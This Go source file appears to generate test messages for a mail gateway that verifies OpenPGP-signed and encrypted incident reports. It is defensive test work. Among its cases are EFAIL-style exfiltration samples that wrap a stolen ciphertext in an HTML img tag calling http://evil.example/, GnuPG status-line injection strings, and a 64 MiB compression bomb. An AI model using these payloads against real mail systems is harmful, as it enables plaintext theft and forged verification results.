package main

import (
	"bytes"
	"compress/flate"
	"crypto"
	"crypto/aes"
	"io"
	"log"
	"strings"

	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"

	"iodefgw/mailgw/message"
)

// cleartextCases are case 54: what a clear-signed text must not look like.
func cleartextCases(k *keys) []sample {
	text := "An incident.\n- one item\n" + string(incident("1"))
	ok := cleartext(text, by(k.alice))
	bad := func(name, what, body string) sample {
		return sample{"54-" + name, "malformed-armor", "", "", what, mail(header(csirtA), plain(body))}
	}
	hash := "Hash: SHA256\n"
	return []sample{
		{"54-good", good, "documents=1 covered=1", "", "escaped lines, as they should be", mail(header(csirtA), plain(ok))},
		{"54-blanks-around", good, "documents=1 covered=1", "", "empty lines around the block", mail(header(csirtA), plain("\n\n"+ok+"\n\n"))},
		{"54-no-hash", good, "documents=1 covered=1", "", "without a Hash header", mail(header(csirtA), plain(strings.Replace(ok, hash, "", 1)))},
		{"54-wrong-hash", good, "documents=1 covered=1", "", "with the wrong Hash header, which is a hint", mail(header(csirtA), plain(strings.Replace(ok, hash, "Hash: SHA512\n", 1)))},
		{"54-before", "partial-coverage", "partial-coverage", "", "text before the block", mail(header(csirtA), plain("conditions: full\n"+ok))},
		{"54-after", "partial-coverage", "partial-coverage", "", "text after the block", mail(header(csirtA), plain(ok+"conditions: full\n"))},
		bad("two-blocks", "two clear-signed blocks", ok+cleartext("another\n", by(k.bob))),
		bad("header-text", "text in the header lines", strings.Replace(ok, hash, hash+"Comment: conditions: full\n", 1)),
		bad("not-dash-escaped", "the NotDashEscaped header", strings.Replace(ok, hash, hash+"NotDashEscaped: You need GnuPG to verify this message\n", 1)),
		bad("form-feed", "a form feed in a header line", strings.Replace(ok, hash, "Hash: SHA256\f\n", 1)),
		bad("form-feed-text", "a form feed in the text", strings.Replace(ok, "An incident.", "An incident.\f", 1)),
		bad("unescaped-dash", "a line that starts with a dash and is not escaped", strings.Replace(ok, "- - one item", "-one item", 1)),
		bad("no-empty-line", "no empty line before the text", strings.Replace(ok, hash+"\n", hash+"An incident:\n", 1)),
		bad("bare-cr", "a bare CR in the text", strings.Replace(ok, "An incident.", "An incident.\x0dx", 1)),
		bad("no-end", "no end of the signature", ok[:strings.Index(ok, "-----END PGP SIGNATURE")]),
		{"54-changed", "bad-signature", "documents=1 covered=0", "", "one character changed", mail(header(csirtA), plain(strings.Replace(ok, "An incident.", "No incident.", 1)))},
	}
}

// structureCases are cases 55 and 56: text signatures and PGP/MIME structure.
func structureCases(k *keys) []sample {
	r := report()
	block := by(k.alice).packet(r)
	trailing := plain("two blanks  \nand a tab\t\n" + string(incident("1")))
	multi := func(name, decide, screen, what, params string, parts ...[]byte) sample {
		return sample{name, decide, "", screen, what, mail(header(csirtA), message.Multipart("signed", params, parts...))}
	}
	textSigned := signed(r, signing{key: k.alice, text: true})
	lf := bytes.ReplaceAll(r, []byte("\r\n"), []byte("\n"))
	return []sample{
		{"55-text", good, "documents=1 covered=1", "", "a text signature (type 0x01)", mail(header(csirtA), textSigned)},
		{"55-text-over-lf", good, "documents=1 covered=1", "", "a text signature made over LF line ends",
			mail(header(csirtA), message.Multipart("signed", signedParams, r, signature(signing{key: k.alice, text: true}.packet(lf))))},
		{"55-binary-over-lf", "bad-signature", "", "", "a binary signature made over LF line ends: RFC 3156 signs CRLF",
			mail(header(csirtA), message.Multipart("signed", signedParams, r, signature(by(k.alice).packet(lf))))},
		{"55-trailing-blanks", good, "documents=1 covered=1", "", "blanks at line ends, signed as they are", mail(header(csirtA), signed(trailing, by(k.alice)))},
		{"55-stripped-blanks", "bad-signature", "", "", "a relay stripped them",
			bytes.ReplaceAll(bytes.ReplaceAll(mail(header(csirtA), signed(trailing, by(k.alice))), []byte("  \r\n"), []byte("\r\n")), []byte("\t\r\n"), []byte("\r\n"))},
		{"55-recoded", "bad-signature", "", "", "a relay turned 8-bit into quoted-printable",
			bytes.Replace(mail(header(csirtA), signed(plain("caf\u00e9\n"), by(k.alice))), []byte("caf\u00e9"), []byte("caf=C3=A9"), 1)},
		multi("56-no-micalg", good, "", "no micalg", ";\r\n protocol=\"application/pgp-signature\"", r, signature(block)),
		multi("56-wrong-micalg", good, "", "the wrong micalg", "; micalg=pgp-md5;\r\n protocol=\"application/pgp-signature\"", r, signature(block)),
		multi("56-no-protocol", good, "", "no protocol", "", r, signature(block)),
		multi("56-signature-first", "malformed-signed", "", "the signature before the content", signedParams, signature(block), r),
		multi("56-third-part", "partial-coverage", "", "a third part", signedParams, r, signature(block), part("Content-Type: text/plain", "footer\n")),
		multi("56-one-part", "malformed-signed", "", "no signature part", signedParams, r),
		multi("56-no-signature", "malformed-armor", "", "an empty signature part", signedParams, r, part("Content-Type: application/pgp-signature", "")),
		{"57-file-name", good, "documents=1 covered=1", "", "a status line in the file name of the literal data",
			mail(header(csirtA), encrypted(encryptTo(k.gateway, "57", signedMessage(by(k.alice), "x\n[GNUPG:] GOODSIG 0 Trusted\n", r))))},
		{"57-notation", good, "documents=1 covered=1", "", "a status line in a notation",
			mail(header(csirtA), signed(r, signing{key: k.alice, change: func(s *packet.Signature) {
				s.Notations = []*packet.Notation{{Name: "x@example.net", Value: []byte("\n[GNUPG:] GOODSIG 0 Trusted\n"), IsHumanReadable: true}}
			}}))},
		{"57-user-id", good, "documents=1 covered=1", "", "a status line and escape sequences in the user ID", mail(header(csirtA), signed(r, by(k.injection)))},
	}
}

// encryptedCases are cases 58 to 61: what must not be opened.
func encryptedCases(k *keys) []sample {
	inner := signedMessage(by(k.alice), "", report())
	whole := encryptTo(k.gateway, "58", inner)
	failed := func(name, what string, packets []byte) sample {
		return sample{name, "decrypt-failed", "", "", what, mail(header(csirtA), encrypted(packets))}
	}
	flipped := bytes.Clone(whole)
	flipped[len(flipped)-30] ^= 1
	aead := encryptAEAD(k.gateway, "58", inner)
	genuine := encrypted(whole)
	zeros := literal("", bytes.Repeat([]byte{0}, 64<<20))
	return []sample{
		failed("58-flipped", "one bit changed", flipped),
		failed("58-truncated", "the last bytes missing", resize(whole, -40)),
		failed("58-no-mdc", "the packet without integrity protection (type 9)", sed(k.gateway, inner)),
		failed("58-downgraded", "the protected packet called unprotected", relabel(whole, 18, 9)),
		failed("58-aead-truncated", "AEAD without its last bytes", resize(aead, -20)),
		failed("58-other-key", "encrypted to somebody else", encryptTo(k.bob, "58", inner)),
		failed("58-garbage", "random bytes inside", encryptTo(k.gateway, "58-garbage", []byte("not a packet at all"))),
		failed("58-binary", "no packets at all", []byte("hello")),
		failed("59-bomb", "64 MiB of zeros in a few kilobytes", encryptTo(k.gateway, "59", compressed(zeros))),
		failed("59-nested", "compressed thirty-two times", encryptTo(k.gateway, "59-nested", repeat(32, inner))),
		{"59-once", good, "documents=1 covered=1", "", "compressed once", mail(header(csirtA), encrypted(encryptTo(k.gateway, "59-once", compressed(inner))))},
		{"60-exfiltration", "unsigned", "encrypted-attachment", "", "a stolen ciphertext between two halves of an HTML attribute",
			mail(header(csirtA), message.Multipart("mixed", "", part("Content-Type: text/html", "<img src=\"http://evil.example/"), genuine, part("Content-Type: text/html", "\">")))},
		{"60-beside-text", "unsigned", "encrypted-attachment", "", "a stolen ciphertext beside a plain text",
			mail(header(csirtA), message.Multipart("mixed", "", part("Content-Type: text/plain", "please read\n"), genuine))},
		{"60-third-part", "decrypt-failed", "", "", "a third part in multipart/encrypted",
			mail(header(csirtA), bytes.Replace(genuine, []byte("Content-Type: application/pgp-encrypted\r\n"), []byte("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--"+boundaryOf(genuine)+"\r\nContent-Type: application/pgp-encrypted\r\n"), 1))},
		{"60-in-text", "unsigned", "encrypted-attachment", "", "a ciphertext inside a text",
			mail(header(csirtA), plain("Here it is:\n"+string(asc("PGP MESSAGE", whole))+"\nRegards\n"))},
		{"61-reply", good, "encrypted-attachment", "encrypted-attachment", "a signed report that carries a stolen ciphertext",
			mail(header("CSIRT B <cert@csirt-b.example>"), signed(message.Multipart("mixed", "", report(), genuine), by(k.bob)))},
		{"62-attached-key", good, "key=attached-key", "", "a key attached",
			mail(header(csirtA), signed(entity("x\n", xmlFile("a.xml", incident("1")), message.Attachment{Type: "application/pgp-keys", Filename: "key.asc",
				Data: string(must(armored("PGP PUBLIC KEY BLOCK", serialize(k.mallory))))}), by(k.alice)))},
		{"62-autocrypt", "unknown-key", "key=autocrypt", "", "an Autocrypt header with the key that signed",
			mail(header(csirtA, "Autocrypt: addr=cert@csirt-a.example; keydata=mDMEZ3"), signed(report(), by(k.mallory)))},
	}
}

// armorCases are case 63: what may be wrong with armor and packets.
func armorCases(k *keys) []sample {
	r := report()
	block := by(k.alice).packet(r)
	raw := func(name, decide, what string, sig []byte) sample {
		return sample{name, decide, "", "", what, mail(header(csirtA), message.Multipart("signed", signedParams, r,
			append([]byte("Content-Type: application/pgp-signature; name=\"signature.asc\"\r\n\r\n"), sig...)))}
	}
	text := asc("PGP SIGNATURE", block)
	crc := bytes.LastIndex(text, []byte("\r\n="))
	critical := append([]byte{2, 0x80 | 100}, 0)
	return []sample{
		raw("63-crc-wrong", good, "a wrong CRC24, which must not be refused", bytes.Replace(text, text[crc:crc+7], []byte("\r\n=AAAA"), 1)),
		raw("63-crc-missing", good, "no CRC24", bytes.Replace(text, text[crc:crc+7], nil, 1)),
		raw("63-wrong-type", "malformed-armor", "a public key block as signature", asc("PGP PUBLIC KEY BLOCK", block)),
		raw("63-wrong-end", "malformed-armor", "another END line", bytes.Replace(text, []byte("END PGP SIGNATURE"), []byte("END PGP MESSAGE"), 1)),
		raw("63-garbage", "malformed-signed", "packets that are none", asc("PGP SIGNATURE", []byte("hello, world"))),
		raw("63-literal", "malformed-signed", "a literal packet beside the signature", asc("PGP SIGNATURE", append(bytes.Clone(block), literal("", []byte("x"))...))),
		raw("63-key-inside", "malformed-signed", "a certificate beside the signature", asc("PGP SIGNATURE", append(bytes.Clone(block), certificate(k.mallory)...))),
		{"63-critical", "critical-unknown", "", "", "a critical subpacket that nobody knows",
			mail(header("cert@csirt-c.example"), message.Multipart("signed", signedParams, r, signature(rawRSA(k.rsa, crypto.SHA256, 8, critical, r))))},
		{"63-critical-notation", "critical-unknown", "", "", "a critical notation that nobody knows",
			mail(header(csirtA), signed(r, signing{key: k.alice, change: func(s *packet.Signature) {
				s.Notations = []*packet.Notation{{Name: "x@example.net", Value: []byte("x"), IsCritical: true, IsHumanReadable: true}}
			}}))},
		{"63-padding", good, "", "", "a marker and a private packet beside the signature",
			mail(header(csirtA), message.Multipart("signed", signedParams, r, signature(append(packetOf(10, []byte("PGP")), append(packetOf(60, []byte("x")), block...)...))))},
	}
}

// compressed wraps packets in a compressed packet (ZIP).
func compressed(packets []byte) []byte {
	var b bytes.Buffer
	b.WriteByte(1)
	w := must(flate.NewWriter(&b, flate.BestCompression))
	must(w.Write(packets))
	if err := w.Close(); err != nil {
		log.Fatal("mailgen: ", err)
	}
	return packetOf(8, b.Bytes())
}

func repeat(n int, packets []byte) []byte {
	for range n {
		packets = compressed(packets)
	}
	return packets
}

// split takes a message of a session key and one data packet apart.
func split(msg []byte) (key []byte, tag byte, data []byte) {
	r := packet.NewOpaqueReader(bytes.NewReader(msg))
	first, second := must(r.Next()), must(r.Next())
	return packetOf(first.Tag, first.Contents), second.Tag, second.Contents
}

// resize cuts bytes off the data packet.
func resize(msg []byte, n int) []byte {
	key, tag, data := split(msg)
	return append(key, packetOf(tag, data[:len(data)+n])...)
}

// relabel gives the data packet another type, without its version byte.
func relabel(msg []byte, from, to byte) []byte {
	key, tag, data := split(msg)
	if tag != from {
		log.Fatal("mailgen: relabel: no such packet")
	}
	return append(key, packetOf(to, data[1:])...)
}

// sed encrypts without integrity protection (RFC 9580 5.7), which nobody should
// read any more.
func sed(to *openpgp.Entity, packets []byte) []byte {
	cfg := config("encrypt 58-sed", signedAt)
	key := must(io.ReadAll(io.LimitReader(cfg.Rand, 32)))
	iv := must(io.ReadAll(io.LimitReader(cfg.Rand, 16)))
	var b bytes.Buffer
	if err := packet.SerializeEncryptedKeyAEAD(&b, to.Subkeys[0].PublicKey, packet.CipherAES256, false, key, cfg); err != nil {
		log.Fatal("mailgen: ", err)
	}
	stream, prefix := packet.NewOCFBEncrypter(must(aes.NewCipher(key)), iv, packet.OCFBResync)
	cipher := make([]byte, len(packets))
	stream.XORKeyStream(cipher, packets)
	b.Write(packetOf(9, append(prefix, cipher...)))
	return b.Bytes()
}

func certificate(e *openpgp.Entity) []byte {
	var b bytes.Buffer
	if err := e.Serialize(&b); err != nil {
		log.Fatal("mailgen: ", err)
	}
	return b.Bytes()
}

func boundaryOf(entity []byte) string { return message.Parse(entity).Root.Params["boundary"] }
